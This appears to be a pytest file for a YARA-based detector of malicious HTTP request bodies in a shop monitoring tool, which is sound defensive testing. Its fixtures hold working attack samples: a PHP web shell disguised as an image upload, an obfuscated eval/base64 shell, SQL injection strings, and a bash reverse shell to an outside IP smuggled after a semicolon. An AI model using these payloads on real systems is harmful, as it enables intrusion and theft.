"""YARA over request bodies: web shell uploads and injection payloads fire, benign bodies do not."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from shopwatch.contract import EVENT_SCHEMA
from shopwatch.enrich.base import Enricher
from shopwatch.enrich.yara import RULES_FIELD, YaraEnricher
from shopwatch.errors import ConfigError, ContentError

WEBSHELL_UPLOAD = (
    "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
    'Content-Disposition: form-data; name="avatar"; filename="avatar.php.jpg"\r\n'
    "Content-Type: image/jpeg\r\n\r\n"
    "GIF89a;\r\n<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>\r\n"
    "------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
)
OBFUSCATED = "<?php @eval(base64_decode('ZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOw==')); ?>"
SQLI_FORM = "email=admin%40shop.example%27+OR+%271%27%3D%271&password=x"
SQLI_JSON = '{"query": "shoes\' UNION ALL SELECT username,password_hash,NULL FROM customers-- -"}'
REVERSE_SHELL = "host=127.0.0.1;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
BENIGN = [
    '{"email": "anna.berg@example.com", "password": "Winter-2026!", "remember_me": true}',
    '{"items": [{"sku": "SHOE-1042", "qty": 1}], "note": "Please leave it with the neighbour or at the door"}',
    "email=jonas.meyer%40example.de&password=correct+horse+battery+staple",
    '{"review": "Great shoes, I wear them every day. 5/5 would buy again, or maybe select another color."}',
    '{"query": "union jack t-shirt", "filters": {"size": "M"}}',
    "<html><body>Newsletter preview: our PHP developers wrote a blog post about eval()</body></html>",
]


@pytest.fixture(scope="module")
def yara() -> YaraEnricher:
    return YaraEnricher()


def test_is_an_enricher_with_a_contract_column(yara: YaraEnricher) -> None:
    assert isinstance(yara, Enricher)
    assert yara.provides <= EVENT_SCHEMA.keys() and EVENT_SCHEMA[RULES_FIELD] == pl.String


@pytest.mark.parametrize(
    ("body", "rules"),
    [
        (WEBSHELL_UPLOAD, ["php_webshell_upload"]),
        (OBFUSCATED, ["php_eval_obfuscated_payload", "php_webshell_upload"]),
        (SQLI_FORM, ["sqli_payload_in_body"]),
        (SQLI_JSON, ["sqli_payload_in_body"]),
        (REVERSE_SHELL, ["reverse_shell_command"]),
    ],
)
def test_attacks_fire(yara: YaraEnricher, body: str, rules: list[str]) -> None:
    assert yara.match(body) == rules


@pytest.mark.parametrize("body", BENIGN)
def test_benign_bodies_stay_quiet(yara: YaraEnricher, body: str) -> None:
    assert yara.match(body) == []


def test_batch_scans_unique_bodies_and_keeps_rows(yara: YaraEnricher) -> None:
    bodies = [WEBSHELL_UPLOAD, None, BENIGN[0], WEBSHELL_UPLOAD, "", SQLI_FORM] * 50
    batch = pl.DataFrame(
        {"event.id": [str(i) for i in range(len(bodies))], "http.request.body.content": bodies}
    )
    before = yara.scanned
    out = yara.enrich(batch)
    assert out["event.id"].equals(batch["event.id"])
    assert yara.scanned - before == 3  # three distinct non-empty bodies
    assert out[RULES_FIELD].to_list()[:6] == [
        "php_webshell_upload", None, None, "php_webshell_upload", None, "sqli_payload_in_body",
    ]  # fmt: skip


def test_batch_without_bodies(yara: YaraEnricher) -> None:
    out = yara.enrich(pl.DataFrame({"source.ip": ["1.2.3.4"]}))
    assert out[RULES_FIELD].to_list() == [None]


def test_user_rules_and_bad_rules(tmp_path: Path) -> None:
    mine = tmp_path / "shop.yar"
    mine.write_text('rule giftcard_brute { strings: $a = "giftcard_code=" condition: #a > 3 }\n')
    enricher = YaraEnricher.from_settings(
        type("S", (), {"enrich": {"yara": {"rules": [str(mine)]}}})()
    )
    assert enricher.match("giftcard_code=1&giftcard_code=2&giftcard_code=3&giftcard_code=4") == [
        "giftcard_brute"
    ]
    assert enricher.match(WEBSHELL_UPLOAD) == ["php_webshell_upload"]  # the shipped rules stay
    broken = tmp_path / "broken.yar"
    broken.write_text('rule x { strings: $a = "x" condition: $b }\n')
    with pytest.raises(ContentError, match=r"broken\.yar"):
        YaraEnricher([broken])
    with pytest.raises(ConfigError, match="unknown keys"):
        YaraEnricher.from_settings(type("S", (), {"enrich": {"yara": {"rulez": []}}})())
